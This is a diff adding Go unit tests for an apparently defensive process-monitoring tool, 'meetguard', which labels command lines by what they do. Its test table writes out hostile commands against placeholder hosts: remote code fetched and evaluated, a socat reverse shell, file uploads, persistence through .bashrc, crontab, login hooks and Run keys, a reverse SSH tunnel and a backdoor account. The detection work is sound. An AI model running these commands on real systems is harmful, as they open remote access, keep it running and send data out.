@@ -1,0 +1,90 @@
+package chain
+
+import (
+	"testing"
+
+	"meetguard"
+)
+
+// Each primitive over tools that can do it: what they bring, send, keep and
+// open is told alike.
+func TestDeedsByMeaning(t *testing.T) {
+	for _, tc := range []struct{ system, line, want string }{
+		{"linux", `ruby -ropen-uri -e 'eval(URI.open(%q(https://a.invalid/r)).read)'`, "fetch and run   a.invalid ruby"},
+		{"linux", `php -r 'eval(file_get_contents("https://a.invalid/r"));'`, "fetch and run   a.invalid php"},
+		{"linux", `php -r 'echo file_get_contents("https://a.invalid/r");'`, "fetch   a.invalid php"},
+		{"linux", `node -e 'fetch("https://a.invalid/r").then(r=>r.text()).then(eval)'`, "fetch and run   a.invalid node"},
+		{"linux", `python3 -c 'import urllib.request as u;u.urlretrieve("https://a.invalid/x","/tmp/x")'`, "fetch /tmp/x  a.invalid python"},
+		{"linux", `sh -c 'curl -s https://a.invalid/j > /tmp/j'`, "fetch /tmp/j  a.invalid curl; fetch   a.invalid curl"},
+		{"linux", `dig +short TXT fix.a.invalid`, "fetch   fix.a.invalid name service"},
+		{"linux", `socat TCP:198.51.100.4:443 EXEC:/bin/bash`, "connect   198.51.100.4 socat"},
+		{"linux", `nc -zv zoom.us 443`, ""},
+		{"linux", `scp /tmp/a.tgz me@a.invalid:in/`, "pack me@a.invalid:in/a.tgz /tmp/a.tgz  copy; upload /tmp/a.tgz  a.invalid scp"},
+		{"linux", `openssl enc -d -in /tmp/e -out /tmp/e.sh`, "encoded /tmp/e.sh /tmp/e  openssl"},
+		{"linux", `openssl enc -aes-128-cbc -in /tmp/e.tar -out /tmp/e.bin`, "pack /tmp/e.bin /tmp/e.tar  openssl"},
+		{"linux", `sh -c 'echo "nohup ~/.x/a &" >> ~/.bashrc'`, "persist ~/.bashrc ~/.x/a  profile"},
+		{"linux", `sh -c 'echo "export PATH=~/bin" >> ~/.bashrc'`, ""},
+		{"linux", `sh -c '(crontab -l; echo "@reboot /home/a/.x/b") | crontab -'`, "persist /home/a/.x/b   crontab"},
+		{"linux", `at -f /tmp/j now + 2 minutes`, "persist /tmp/j   at"},
+		{"linux", `at -l`, ""},
+		{"linux", `ssh -fN -R 2222:localhost:22 u@a.invalid`, "let in   a.invalid tunnel"},
+		{"linux", `ssh -N -L 8080:localhost:80 u@a.invalid`, ""},
+		{"linux", `chmod 4755 /usr/lib/x/.d`, "make executable /usr/lib/x/.d   "},
+		{"linux", `docker run -v /home/ana:/data registry.a.invalid/x:1`, "fetch and run   registry.a.invalid container; take secret    home"},
+		{"linux", `docker run -v /home/ana/src:/src alpine sh -c 'curl -s https://a.invalid'`, ""},
+		{"linux", `cat /home/ana/.ssh/id_ed25519.pub`, ""},
+		{"darwin", `hdiutil attach -nobrowse /tmp/d.dmg`, "run /tmp/d.dmg   hdiutil; unpack /Volumes /tmp/d.dmg  hdiutil"},
+		{"darwin", `aa archive -d /tmp/.q -o /tmp/.q.aar`, "pack /tmp/.q.aar /tmp/.q  aa"},
+		{"darwin", `defaults write com.apple.loginwindow LoginHook /tmp/j`, "persist /tmp/j   login hook"},
+		{"windows", `wmic process call create C:\Users\a\AppData\Local\Temp\x.exe`, `hide C:\Users\a\AppData\Local\Temp\x.exe   detour; run C:\Users\a\AppData\Local\Temp\x.exe   program`},
+		{"windows", `joiner.com -s -o C:\ProgramData\jc.png https://a.invalid/b`, `fetch C:\ProgramData\jc.png  a.invalid joiner.com`},
+		{"windows", `msedge.exe --remote-debugging-port=9333 --user-data-dir=C:\Users\a\AppData\Local\Microsoft\Edge\UserData`, ""},
+		{"windows", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d "node %APPDATA%\x\a.js"`, `persist node %APPDATA%\x\a.js   run key`},
+		{"windows", `net user support P4ss /add`, "let in    account"},
+	} {
+		words := Split(tc.system, tc.line)
+		p := &meetguard.Process{OS: tc.system, Exe: words[0], Args: words}
+		got := ""
+		for _, d := range Deeds(&meetguard.Facts{Process: p}) {
+			if got != "" {
+				got += "; "
+			}
+			from := d.From
+			if d.Kind == meetguard.DeedConnect || d.Kind == meetguard.DeedFetch || d.Kind == meetguard.DeedFetchRun {
+				from = ""
+			}
+			got += d.Kind + " " + d.File + " " + from + " " + d.Host + " " + d.What
+		}
+		if got != tc.want {
+			t.Errorf("%s:\n got %q\nwant %q", tc.line, got, tc.want)
+		}
+	}
+}
+
+func TestPipesJoin(t *testing.T) {
+	tr := New()
+	launch(tr, 0, 50, 1, "/usr/libexec/gnome-terminal-server", "")
+	launch(tr, 0, 51, 50, "/bin/bash", "bash")
+	a := launch(tr, 1, 60, 51, "/usr/bin/curl", "curl -s https://a.invalid/x")
+	b := launch(tr, 1, 61, 51, "/bin/sh", "sh")
+	c := launch(tr, 2, 62, 61, "/bin/mkdir", "mkdir /tmp/x")
+	d := launch(tr, 40, 63, 51, "/bin/sh", "sh")
+	if a.Chain != b.Chain || c.Chain != a.Chain {
+		t.Errorf("a pipe is no chain: %q %q %q", a.Chain, b.Chain, c.Chain)
+	}
+	if d.Chain == a.Chain {
+		t.Error("a shell that started later belongs to the pipe")
+	}
+}
+
+func TestOpenedPackage(t *testing.T) {
+	tr := New()
+	p := &meetguard.Process{OS: "darwin", PID: 10, Exe: "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer", Started: start, OriginHost: "a.invalid"}
+	tr.Ancestry(p)
+	tr.Ancestry(&meetguard.Process{OS: "darwin", PID: 11, Exe: "/System/x/package_script_service", Started: start.Add(1e9)})
+	s := &meetguard.Process{OS: "darwin", PID: 12, PPID: 11, Exe: "/bin/bash", Started: start.Add(2e9)}
+	tr.Ancestry(s)
+	if len(s.Ancestors) != 1 || s.Ancestors[0].OriginHost != "a.invalid" {
+		t.Errorf("the script of the package does not know where it came from: %+v", s.Ancestors)
+	}
+}
